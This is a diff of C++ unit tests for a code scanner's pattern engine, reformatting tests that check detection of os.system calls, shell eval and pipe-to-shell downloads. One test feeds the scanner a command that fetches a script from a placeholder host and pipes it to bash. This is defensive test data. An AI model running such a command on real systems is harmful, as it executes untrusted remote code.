@@ -45,8 +45,7 @@ TEST_CASE("a comment or a string mentioning os.system is not a call", "[patterns
   CHECK(r.score == Approx(1.0));
 }
 
-TEST_CASE("an aliased import is resolved: from os import system as s; s(x)",
-          "[patterns][engine]") {
+TEST_CASE("an aliased import is resolved: from os import system as s; s(x)", "[patterns][engine]") {
   auto e = load_engine();
   const auto r = scan_one(*e, "python", "from os import system as s\ns(x)\n");
   REQUIRE(has_rule(r, "py.os-system"));
@@ -87,8 +86,8 @@ TEST_CASE("bash rules: eval of a variable and curl | sh", "[patterns][engine]") 
   CHECK(std::count_if(r.issues.begin(), r.issues.end(),
                       [](const Issue& i) { return i.rule_id == "sh.eval"; }) == 1);
   CHECK(r.issues.front().line == 4);
-  CHECK(has_rule(scan_one(*e, "sh", "curl -s https://x.example/i.sh | bash\n"),
-                 "sh.pipe-to-shell"));
+  CHECK(
+      has_rule(scan_one(*e, "sh", "curl -s https://x.example/i.sh | bash\n"), "sh.pipe-to-shell"));
 }
 
 TEST_CASE("score and level follow the documented formula", "[patterns][engine]") {
